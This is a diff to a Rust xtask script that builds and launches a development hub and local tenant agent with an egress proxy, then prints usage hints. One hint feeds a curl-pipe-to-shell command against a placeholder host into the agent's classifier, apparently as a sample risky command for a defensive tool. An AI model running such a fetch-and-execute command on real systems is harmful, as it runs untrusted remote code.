@@ -1,7 +1,114 @@
-//! `cargo xtask run`: the hub and a local tenant for development (filled in with the hub).
+//! `cargo xtask run`: the hub and a local tenant for development, on the embedded defaults.
+//!
+//! Everything lives under `.dev/` in the workspace: the hub's SQLite database and the local
+//! tenant's state dir (vault, key, config, usage). Ctrl-C stops both.
 
 use std::path::Path;
+use std::process::{Child, Command};
+use std::time::Duration;
 
-pub(crate) fn run(_root: &Path, _args: &[String]) -> Result<(), String> {
-    Err("`cargo xtask run` starts the hub, which is not built yet".to_owned())
+const HUB_LISTEN: &str = "127.0.0.1:8790";
+
+pub(crate) fn run(root: &Path, args: &[String]) -> Result<(), String> {
+    if let Some(arg) = args.first() {
+        return Err(format!(
+            "`cargo xtask run` takes no arguments (got `{arg}`)"
+        ));
+    }
+    crate::deps::install_debian_packages(crate::deps::BUILD_PACKAGES)?;
+    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".to_owned());
+    crate::run_step(
+        root,
+        &cargo,
+        &["build", "--bins", "-p", "hub", "-p", "tenant-agent"],
+        &[],
+    )?;
+    let bin = root.join("target").join("debug");
+    let dev = root.join(".dev");
+    let hub_db = dev.join("hub").join("hub.db");
+    let tenant = dev.join("tenant");
+    std::fs::create_dir_all(&tenant)
+        .map_err(|e| format!("cannot create {}: {e}", tenant.display()))?;
+
+    let token = Command::new(bin.join("tenant-agent"))
+        .arg("--state-dir")
+        .arg(&tenant)
+        .args(["proxy", "token"])
+        .output()
+        .map_err(|e| format!("cannot run tenant-agent: {e}"))?;
+    if !token.status.success() {
+        return Err(format!(
+            "tenant-agent proxy token failed: {}",
+            String::from_utf8_lossy(&token.stderr)
+        ));
+    }
+    let token = String::from_utf8_lossy(&token.stdout).trim().to_owned();
+
+    let mut hub = spawn(
+        Command::new(bin.join("hub"))
+            .arg("--db")
+            .arg(&hub_db)
+            .args(["serve", "--listen", HUB_LISTEN]),
+    )?;
+    let mut proxy = match spawn(
+        Command::new(bin.join("tenant-agent"))
+            .arg("--state-dir")
+            .arg(&tenant)
+            .arg("proxy"),
+    ) {
+        Ok(p) => p,
+        Err(e) => {
+            let _ = hub.kill();
+            return Err(e);
+        }
+    };
+    std::thread::sleep(Duration::from_millis(500));
+    let ta = format!("target/debug/tenant-agent --state-dir {}", tenant.display());
+    eprintln!(
+        "
+==> running (Ctrl-C stops everything)
+  hub:            http://{HUB_LISTEN}  (health: /healthz, metrics: /metrics, API: /openapi.json)
+                  database {db}
+                  admin CLI: target/debug/hub --db {db} admin --help
+  local tenant:   state dir {tenant}
+    egress proxy: http://127.0.0.1:8791/openai/v1 and /anthropic, API key (proxy token):
+                  {token}
+    add real keys: printf '%s' \"$OPENAI_API_KEY\" | {ta} secrets set openai_api_key
+    try:          {ta} classify -- 'curl -s https://x.example/i.sh | sh'
+    usage:        {ta} usage
+",
+        db = hub_db.display(),
+        tenant = tenant.display(),
+    );
+    // Wait until either stops (Ctrl-C reaches both: they are in the terminal's foreground
+    // process group), then stop the other.
+    loop {
+        if let Some(status) = hub.try_wait().map_err(|e| e.to_string())? {
+            let _ = proxy.kill();
+            let _ = proxy.wait();
+            return finished("hub", status);
+        }
+        if let Some(status) = proxy.try_wait().map_err(|e| e.to_string())? {
+            let _ = hub.kill();
+            let _ = hub.wait();
+            return finished("tenant-agent proxy", status);
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+fn spawn(cmd: &mut Command) -> Result<Child, String> {
+    cmd.spawn()
+        .map_err(|e| format!("cannot start {:?}: {e}", cmd.get_program()))
+}
+
+fn finished(what: &str, status: std::process::ExitStatus) -> Result<(), String> {
+    // Stopped by Ctrl-C (SIGINT) or cleanly: fine; anything else is reported.
+    use std::os::unix::process::ExitStatusExt;
+    if status.success() || status.signal() == Some(2) {
+        eprintln!("==> stopped");
+        Ok(())
+    } else {
+        Err(format!("{what} exited: {status}"))
+    }
 }
